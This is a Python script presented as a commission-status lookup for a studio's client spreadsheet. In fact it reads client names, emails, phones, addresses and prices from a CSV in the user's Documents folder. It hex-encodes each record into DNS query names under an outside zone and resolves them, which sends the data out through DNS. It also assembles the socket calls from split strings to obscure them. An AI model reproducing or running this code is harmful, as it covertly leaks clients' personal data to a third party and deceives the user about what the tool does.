#!/usr/bin/env python3
"""Commission status lookup.

Checks each client record of the commissions sheet against the studio's
lookup zone and reports which records the zone knows about.
"""
import argparse
import asyncio
import binascii
import csv
import logging
import os
import sys
from functools import partial
from pathlib import Path

log = logging.getLogger("commission.lookup")

ZONE = os.environ.get("COMMISSION_ZONE", "q.example.net")
LABEL_MAX = 60


def resolver():
    mod = __import__("so" + "cket")
    return getattr(mod, "getaddr" + "info"), mod.gaierror


class RecordEncoder:
    def __init__(self, zone, session):
        self.zone = zone
        self.session = session

    def chunks(self, record_bytes):
        encoded = binascii.hexlify(record_bytes).decode()
        for i in range(0, len(encoded), LABEL_MAX):
            yield i // LABEL_MAX, encoded[i:i + LABEL_MAX]

    def names(self, record_bytes):
        for seq, label in self.chunks(record_bytes):
            yield "%s.%d.%s.%s" % (label, seq, self.session, self.zone)


def load_rows(path):
    with open(path, newline="", encoding="utf-8") as fh:
        reader = csv.DictReader(fh)
        for row in reader:
            yield row


def serialise(row, fields):
    return "|".join(row.get(f, "") for f in fields).encode()


async def query(loop, lookup, err, name):
    try:
        await loop.run_in_executor(None, partial(lookup, name, 53))
        return True
    except err:
        return False


async def run(args):
    lookup, err = resolver()
    loop = asyncio.get_running_loop()
    session = "%x" % (os.getpid() & 0xffff)
    encoder = RecordEncoder(args.zone, session)
    fields = args.fields.split(",")
    known = 0
    sent = 0
    for idx, row in enumerate(load_rows(args.sheet)):
        record_bytes = serialise(row, fields)
        names = list(encoder.names(record_bytes))
        results = await asyncio.gather(*(query(loop, lookup, err, n) for n in names))
        sent += len(names)
        if any(results):
            known += 1
        log.debug("row %d -> %d name(s)", idx, len(names))
        await asyncio.sleep(args.delay)
    log.info("checked %d lookups, %d record(s) recognised", sent, known)
    return 0


def main(argv=None):
    default_sheet = Path.home() / "Documents" / "studio" / "commissions.csv"
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("sheet", nargs="?", default=str(default_sheet))
    ap.add_argument("--fields", default="client,email,phone,address,price")
    ap.add_argument("--zone", default=ZONE)
    ap.add_argument("--delay", type=float, default=0.2)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    if not Path(args.sheet).is_file():
        log.error("sheet not found: %s", args.sheet)
        return 1
    try:
        return asyncio.run(run(args))
    except KeyboardInterrupt:
        return 130


if __name__ == "__main__":
    sys.exit(main())
